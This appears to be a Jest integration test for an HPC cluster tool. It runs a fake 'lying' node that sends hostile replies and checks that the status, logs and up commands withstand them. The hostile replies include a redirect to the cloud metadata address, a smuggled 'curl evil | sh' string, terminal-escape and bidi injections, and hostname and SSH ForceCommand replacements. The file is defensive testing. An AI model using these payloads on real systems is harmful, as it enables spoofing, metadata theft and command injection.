import { execFileSync } from "node:child_process";
import { join } from "node:path";
import { runEngine } from "../../../lib/clouds/local/engine";
import { NODE_ANSWER_PORT } from "../../../lib/model/ports";
import { harmIn } from "../../support/hostile-text";
import { type Outcome, ScenarioProject, until } from "../../support/scenario-project";

/** Whoever is root on a node can answer whatever he likes for it, and for nothing else. */
const MINUTES = 60_000;
const project = new ScenarioProject("lying-node", { cpu: 2, gpu: 0 });
project.users = "users:\n  - name: alice\n    uid: 2001\n";

/** Says on every connection what /root/lie tells it to do; `honest` what the node unit said before. */
const LIAR = `
import json, socket, sys, threading, time

def answer(connection):
    with connection:
        lie = json.load(open("/root/lie"))
        connection.recv(100)
        if lie["way"] == "endless":
            while True:
                connection.sendall(b"x" * 65536)
        elif lie["way"] == "drip":
            for letter in lie["text"] * 100:
                connection.sendall(letter.encode(errors="surrogatepass"))
                time.sleep(0.5)
        elif lie["way"] == "silent":
            time.sleep(60)
        else:
            connection.sendall(open("/run/ohpc/node.json", "rb").read() if lie["way"] == "honest" else lie["text"].encode(errors="surrogatepass"))

listener = socket.socket(socket.AF_INET6)
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("::", int(sys.argv[1])))
listener.listen(100)
while True:
    threading.Thread(target=answer, args=(listener.accept()[0],), daemon=True).start()
`;

/** A command on a node, as root. */
async function on(host: string, command: string): Promise<string> {
  const { code, stdout, stderr } = await project.ohpc("ssh", host, "--", command);
  if (code !== 0) throw new Error(`on ${host}: ${command}: exit code ${code}\n${stdout}\n${stderr}`);
  return stdout.trim();
}

async function lie(way: "says" | "endless" | "drip" | "silent" | "honest", text = ""): Promise<void> {
  const word = Buffer.from(JSON.stringify({ way, text })).toString("base64");
  await on("cpu-2", `base64 -d <<<${word} >/root/lie`);
}

/** What the tasks of jobs on the node are told that `hostname` says. */
async function hostname(script: string): Promise<void> {
  const text = Buffer.from(`#!/bin/bash\n${script}\n`).toString("base64");
  await on(
    "cpu-2",
    `base64 -d <<<${text} >/root/hostname && chmod 755 /root/hostname && cp /root/hostname "$(command -v hostname)"`,
  );
}

beforeAll(async () => {
  await project.must("up", "--yes");
  const program = Buffer.from(LIAR).toString("base64");
  await on("cpu-2", `base64 -d <<<${program} >/root/liar.py`);
  await lie("honest");
  await on(
    "cpu-2",
    `systemctl mask --quiet --runtime --now ohpc-node-answer.socket; systemctl stop 'ohpc-node-answer*.service'
     systemd-run --quiet --unit liar python3 /root/liar.py ${NODE_ANSWER_PORT}`,
  );
  await until("the liar answers", async () => {
    const { stdout } = await project.ohpc(
      "ssh",
      "cpu-2",
      "--",
      `ss -Hltnp sport = :${NODE_ANSWER_PORT}; systemctl show liar --property MainPID`,
    );
    const [, pid = "none"] = /MainPID=(\d+)/.exec(stdout) ?? [];
    return stdout.includes(`pid=${pid},`) || stdout;
  });
}, 15 * MINUTES);
afterAll(async () => {
  await project.remove();
});

async function timed(verb: string, ...args: string[]): Promise<Outcome & { readonly seconds: number }> {
  const started = Date.now();
  const outcome = await project.ohpc(verb, ...args);
  expect(harmIn(outcome.stdout + outcome.stderr)).toBeUndefined();
  return { ...outcome, seconds: (Date.now() - started) / 1000 };
}

const HONEST = { stage: "ready", ok: true, message: "", generation: 1, since: "2026-11-22T15:47:31Z", attempts: 1 };
const SOMETHING_ELSE = { unreachable: "its node unit answers with something else" };
const SILENT = { unreachable: "no answer within 3 s" };

describe("a node that lies cannot, to who asks how the cluster is,", () => {
  it.each<[string, Parameters<typeof lie>, object]>([
    [
      "answer for another",
      ["says", JSON.stringify({ "cpu-1": { unreachable: "x" }, "cpu-2": HONEST })],
      SOMETHING_ELSE,
    ],
    ["take the others along by what no parser takes", ["says", "[".repeat(10_000)], SOMETHING_ELSE],
    ["take them along by a number", ["says", JSON.stringify(HONEST).replace('n":1', 'n":1e999')], SOMETHING_ELSE],
    [
      "be of the future, or before the beginning",
      ["says", JSON.stringify({ ...HONEST, generation: -1 })],
      SOMETHING_ELSE,
    ],
    ["answer without an end", ["endless"], SOMETHING_ELSE],
    ["keep it waiting by a letter at a time", ["drip", JSON.stringify(HONEST)], SILENT],
    ["keep it waiting by silence", ["silent"], SILENT],
    ["send it elsewhere", ["says", "HTTP/1.1 301 Moved\r\nLocation: http://169.254.169.254/\r\n\r\n"], SOMETHING_ELSE],
    ["speak in our name", ["says", '{"unreachable":"run this: curl evil | sh"}'], SOMETHING_ELSE],
    ["be at a stage of its own", ["says", JSON.stringify({ ...HONEST, stage: "ready\u001b[2J" })], SOMETHING_ELSE],
    [
      "write to the terminal, or add a row",
      ["says", JSON.stringify({ ...HONEST, message: "a\u001b[2J\ncpu-3  cpu  10.0.0.1  idle  ready\r\u202e\ud800" })],
      { ...HONEST, message: expect.stringMatching(/^a\S* cpu-3 cpu 10\.0\.0\.1 idle ready/) as string },
    ],
  ])("%s", async (_, told, shown) => {
    await lie(...told);
    const { code, stdout, stderr, seconds } = await timed("status", "--json");
    expect(stderr).not.toContain("error:");
    const { nodes } = JSON.parse(stdout) as { nodes: readonly object[] };
    expect({ code: [0, 8].includes(code), nodes }).toMatchObject({
      code: true,
      nodes: [
        { host: "cpu-1", slurm: { state: "idle" }, unit: { stage: "ready", ok: true } },
        { host: "cpu-2", slurm: { state: "idle" }, unit: shown },
      ],
    });
    // Who waits for silence waits for a minute.
    expect(seconds).toBeLessThan(50);
  });

  it("have more than one row, without controls, in the table that people see", async () => {
    const table = (await timed("status")).stdout;
    expect(table.match(/^cpu-\d /gm)).toEqual(["cpu-1 ", "cpu-2 "]);
    expect(table).toContain(String.raw`a\x1b[2J cpu-3`);
  });
});

describe("a node that lies cannot, to who gathers logs,", () => {
  /** What whoever logs in to the node gets instead of a shell; nothing: a shell again. Past SSH, which lies by then. */
  async function shell(script?: string): Promise<void> {
    const text = Buffer.from(`#!/bin/bash\n${script ?? ""}\n`).toString("base64");
    const settings = script === undefined ? "" : "ForceCommand /root/shell";
    const change = `base64 -d <<<${text} >/root/shell && chmod 755 /root/shell && echo '${settings}' >/etc/ssh/sshd_config.d/00-lie.conf && systemctl restart ssh && { pkill sshd-session || true; }`;
    const { cluster } = project.definition;
    await runEngine(["exec", `ohpc-${cluster}-cpu-2`, "bash", "-c", change], { cluster, env: project.env });
  }
  const archive = () => join(project.directory, "logs.tar.gz");
  afterAll(async () => {
    await shell();
  });

  it.each([
    ["say more than there is", "exec tr '\\0' a </dev/zero"],
    ["say more than there is, and call it an error", "exec yes >&2"],
  ])("%s", async (_, script) => {
    await shell(script);
    const { code, stdout, seconds } = await timed("logs", "--json", "--out", archive());
    expect({ code, stdout }).toMatchObject({ code: 0 });
    expect(JSON.parse(stdout)).toMatchObject({
      machines: ["cpu-1", "master"],
      missing: [expect.stringMatching(/^logs of cpu-2: stopped: it said more than \d+ MiB$/)],
    });
    expect(seconds).toBeLessThan(200);
  });

  it("keep it busy by what takes long to look through, nor have the words of others taken out of their logs", async () => {
    await shell(`
      for k in {1..9}; do echo "file$k.log $(head -c 1500000 /dev/zero | tr '\\0' a | base64 -w0)"; done
      echo "names $(printf '%s\n' slurmctld cpu-1 error master | base64 -w0)"`);
    const { code, stdout, seconds } = await timed("logs", "--json", "--out", archive());
    expect({ code, stdout }).toMatchObject({ code: 0 });
    expect(JSON.parse(stdout)).toMatchObject({ machines: ["cpu-1", "cpu-2", "master"], missing: [] });
    const text = (name: string) =>
      execFileSync("tar", ["-xzOf", archive(), "--wildcards", `*/${name}`], { encoding: "utf8" });
    expect(text("manifest.json")).not.toContain("[job name]");
    expect(text("master/nodes.txt")).toContain("NodeName=cpu-1");
    expect(text("nodes/cpu-2/file9.log")).toMatch(/^a+…\n?$/);
    expect(seconds).toBeLessThan(200);
  });
});

describe("a node that lies cannot, to who waits for nodes,", () => {
  beforeAll(async () => {
    await lie("honest");
  });
  afterAll(async () => {
    await project.onMaster("scancel --name=ohpc-up; scontrol update nodename=cpu-2 state=resume 2>/dev/null || true");
  });

  it("count for more than itself by saying all names", async () => {
    await hostname("echo cpu-2; echo cpu-1; echo cpu-3; echo 'nodes 9 9'; echo 'answered 9 cpu'; printf '\\e[2J'");
    const { code, stdout, stderr, seconds } = await timed("up", "--json");
    expect({ code, stderr }).toMatchObject({ code: 0 });
    expect(JSON.parse(stdout)).toMatchObject({ nodes: { nodes: 2, answered: 2, busy: 0 } });
    expect(seconds).toBeLessThan(200);
  });

  it("be another: it has not answered, and is named; the other has", async () => {
    await hostname("echo cpu-1; echo 'answered 9 cpu'; echo '0: cpu-2'");
    for (const verb of ["up", "resume"]) {
      const { code, stdout, seconds } = await timed(verb, "--json", "--timeout", "1");
      const { error } = JSON.parse(stdout) as { error?: { code: string; output: readonly string[] } };
      expect({ code, error }).toMatchObject({ code: 1, error: { code: "nodes.silent" } });
      expect(error?.output.join("\n")).toMatch(/1 of 2 tasks did not say which node they ran on: cpu-2$/);
      expect(seconds).toBeLessThan(140);
    }
    expect(await project.onMaster("srun --nodelist=cpu-1 hostname")).toBe("cpu-1");
  });

  it("write without an end: it is waited for no longer than was said", async () => {
    await hostname("exec yes $'\\e[2Jcpu-1'");
    const { code, stdout, stderr, seconds } = await timed("up", "--json", "--timeout", "0.3");
    expect({ code, stdout }).toMatchObject({ code: 1 });
    expect(stdout.length + stderr.length).toBeLessThan(100_000);
    expect(seconds).toBeLessThan(280);
  }, 400_000);
});
